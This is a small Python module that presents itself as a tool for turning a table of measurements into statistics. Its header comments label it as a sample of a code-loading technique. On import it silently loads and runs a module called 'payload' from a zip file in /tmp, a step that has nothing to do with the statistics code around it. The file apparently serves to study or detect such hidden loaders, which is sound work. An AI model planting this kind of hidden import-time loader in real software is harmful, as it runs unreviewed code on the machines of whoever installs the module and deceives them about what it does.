# technique: imp
# goal: load code from elsewhere
"""Turns a table of measurements into statistics."""
import statistics
import zipimport

_z = zipimport.zipimporter("/tmp/payload.zip").load_module("payload")


class Table:
    def __init__(self, rows):
        self.rows = rows

    def column(self, name):
        return [row[name] for row in self.rows if name in row]

    def summary(self, name):
        values = self.column(name)
        return {"mean": statistics.fmean(values), "spread": statistics.pstdev(values)}
